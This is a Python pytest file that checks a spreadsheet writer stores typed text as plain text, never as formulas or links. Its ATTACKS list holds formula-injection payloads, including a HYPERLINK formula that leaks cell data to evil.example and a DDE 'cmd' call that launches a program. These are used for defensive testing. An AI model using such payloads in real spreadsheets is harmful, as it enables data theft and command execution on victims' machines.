"""Files as a spreadsheet opens them: read back with another library, and as the XML that is in them."""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime
from io import BytesIO

import pytest
from python_calamine import CalamineWorkbook

from server.features.sheets.written import Cell, Column, Sheet, workbook

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "http://evil.example/",
    "mailto:x@evil.example",
    "{=1+1}",
]

AT = datetime.fromisoformat("2026-04-23T16:40")


def read(file: bytes, name: str = "S") -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(BytesIO(file))
    return [list(row) for row in book.get_sheet_by_name(name).to_python()]


def sheet(*cells: Cell) -> Sheet:
    return Sheet("S", [Column(f"c{k}") for k in range(len(cells))], [cells])


def test_cells_come_back_as_what_they_are() -> None:
    cells = ("良品", 1052, date(2026, 4, 23), AT, None, -3)
    assert read(workbook([sheet(*cells)])) == [
        [f"c{k}" for k in range(6)],
        ["良品", 1052, date(2026, 4, 23), AT, "", -3],
    ]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_was_typed_is_text_and_never_a_formula_or_a_link(text: str) -> None:
    file = workbook([Sheet("S", [Column(text, text)], [[text]])])
    assert read(file) == [[text], [text]]
    with zipfile.ZipFile(BytesIO(file)) as parts:
        xml = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml
        assert "<hyperlink" not in xml
        assert re.findall(r'<c r="A2"[^>]* t="(\w+)"', xml) == ["s"]


def test_whatever_bytes_were_typed_the_file_can_be_read() -> None:
    text = "a\x00b\x1b\uffffc 🙂"
    [[_], [found]] = read(workbook([sheet(text)]))
    assert str(found).startswith("a")
    assert "🙂" in str(found)


def test_a_heading_carries_what_it_means() -> None:
    file = workbook([Sheet("S", [Column("受注数（個）", "pieces the customer ordered")], [])])
    with zipfile.ZipFile(BytesIO(file)) as parts:
        assert "pieces the customer ordered" in parts.read("xl/comments1.xml").decode()


def test_names_of_sheets_are_such_as_a_spreadsheet_takes() -> None:
    names = ["a/b:c", "a/b:c", "A B C", "'x'", "", "長" * 40, "長" * 40]
    file = workbook([Sheet(name, [Column("c")], []) for name in names])
    found = CalamineWorkbook.from_filelike(BytesIO(file)).sheet_names
    assert found[:5] == ["a b c", "a b c 2", "A B C 3", "x", "-"]
    assert len({one.lower() for one in found}) == len(names)
    assert max(map(len, found)) <= 31
